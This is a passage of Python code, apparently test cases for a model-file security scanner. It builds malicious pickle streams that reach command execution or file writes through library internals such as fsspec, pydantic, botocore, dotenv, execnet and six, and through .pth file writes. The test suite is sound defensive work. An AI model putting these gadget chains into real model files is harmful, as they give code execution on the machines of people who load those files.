    late = call("collections:defaultdict", name("builtins:help"))
    cases: dict[str, tuple[tuple[object, ...], str]] = {
        "the state of scipy's distribution, the object of the module": (
            (built(name("scipy.stats:norm"), {"_parse_arg_template": template}),),
            "S110",
        ),
        "an entry in the registry of fsspec": (
            (
                put(name("fsspec.registry:known_implementations"), pwn=poisoned),
                call("fsspec.implementations.cached:WholeFileCacheFileSystem", "pwn"),
            ),
            "S110",
        ),
        "an entry among the imports of pydantic": (
            (
                put(name("pydantic:_dynamic_imports"), Popen=("pydantic", "subprocess")),
                call("pydantic:Popen", COMMAND),
            ),
            "S110",
        ),
        "a module of a package that imports late": ((call("pydantic:_os.system", COMMAND),), "S102"),
        "the importers of a package": ((call("builtins:list", call("pkgutil:iter_importers", "x.y")),), "S102"),
        "a function of six under botocore": ((call("botocore.vendored.six.moves:getoutput", COMMAND),), "S105"),
        "a pickle by six": ((call("six.moves.cPickle:loads", list(EVIL)),), "S102"),
        "a method by a wrapper of numpy": (
            (
                call(
                    "numpy._core.fromnumeric:_wrapfunc",
                    call("_pytest._py.path:LocalPath", "/bin/true"),
                    "sysexec",
                ),
            ),
            "S107",
        ),
        "a process for credentials": (
            (
                call(
                    "botocore.credentials:ProcessProvider._retrieve_credentials_using",
                    call("botocore.credentials:ProcessProvider", "default", name("builtins:dict")),
                    COMMAND,
                ),
            ),
            "S105",
        ),
        "a loop of anyio": ((call("anyio._backends._asyncio:AsyncIOBackend.run", HELD, (), {}, {}),), "S101"),
        "an editor": ((call("click:edit", "x", COMMAND, None, False),), "S101"),
        "a file that is opened late": ((call("click.utils:LazyFile", "x", "w"),), "S101"),
        "a gateway of execnet": ((call("execnet:makegateway", "popen//python=true"),), "S101"),
        "a program of dotenv": ((call("dotenv.cli:run_command", [COMMAND], {}),), "S101"),
        "a line of dotenv": ((call("dotenv:set_key", "x.pth", "import x#", "x"),), "S101"),
        "a frame by a method of a method": ((call("inspect:currentframe.__repr__.__self__"),), "S102"),
        "an attribute by a function's own method": (
            (call("statistics:mean.__getattribute__", "__builtins__"),),
            "S102",
        ),
        "a function whose name is resolved for a mock": (
            (call("unittest.mock:_get_target", "builtins:eval.x"),),
            "S101",
        ),
        "a program of Tcl": (
            (call("tkinter:Misc._unbind", call("tkinter:Tcl"), ("exec", "/bin/true")),),
            "S101",
        ),
        "an interpreter within": ((call("_xxsubinterpreters:run_string", 1, "pass"),), "S101"),
        "a file of argparse": ((call("logging:StreamHandler", call("argparse:FileType", "w")),), "S107"),
        "a mailbox": ((call("mailbox:mbox.add", call("mailbox:mbox", "x.pth"), "x"),), "S104"),
        "a line of CSV": (
            (call("csv:DictWriter.writerow", call("csv:DictWriter", None, ()), {}),),
            "S104",
        ),
        "a function as the order of keys": ((call("functools:cmp_to_key", touch),), "S102"),
        "a function as a filter of a log": (
            (call("logging:Filterer.addFilter", call("logging:Filterer"), touch),),
            "S102",
        ),
        "a class whose name is set": (
            (call("builtins:type", "D", (name("pathlib:PosixPath"),), {"__set_name__": touch}),),
            "S102",
        ),
        "a path by text": (
            (call("builtins:type", "D", (name("collections:UserString"),), {"__fspath__": touch}),),
            "S102",
        ),
        "a default that is called when text is formatted": (
            (call("builtins:str.format", "{0[x]}", late),),
            "S102",
        ),
        "a default behind a chain of mappings": (
            (call("builtins:dict", call("collections:ChainMap", late, {"x": 1})),),
            "S101",
        ),
    }
    return [
        Attack(f"chained: {way}", stream(*parts), code, cites=("modelaudit#1061",))
        for way, (parts, code) in cases.items()
    ]


def started() -> list[Attack]:
    """Objects of known programs that open or load what they are made of."""
    return [
        Attack(f"made: {way}", stream(value), code)
        for way, (value, code) in {
            "a model of llama.cpp, restored": (
                new("llama_cpp.llama:Llama", state={"model_path": "/etc/passwd"}),
                "S103",
            ),
            "a cache on a disk, restored": (new("diskcache.core:Cache", state=("/tmp/x", 60, None)), "S104"),
            "a graph that is a pickle": (call("igraph:Graph.Read_Pickle", "/tmp/x"), "S104"),
            "an environment of a module": (call("gymnasium:make", "package:name"), "S101"),
            "a model of sentences": (call("sentence_transformers:SentenceTransformer", "evil/model"), "S103"),
            "an engine": (call("vllm:LLM", "evil/model"), "S103"),
            "a booster": (call("lightgbm:Booster", None, None, "/tmp/x"), "S103"),
            "a command line": (call("fire:Fire", None, COMMAND), "S101"),
        }.items()
    ]


def third_search() -> list[Attack]:
    """All of them."""
    return [
        *advisories(),
        *configurations(),
        *constructed(),
        *joblib(),
        *programs(),
        *held(),
        *elsewhere(),
        *chains(),
        *started(),
    ]
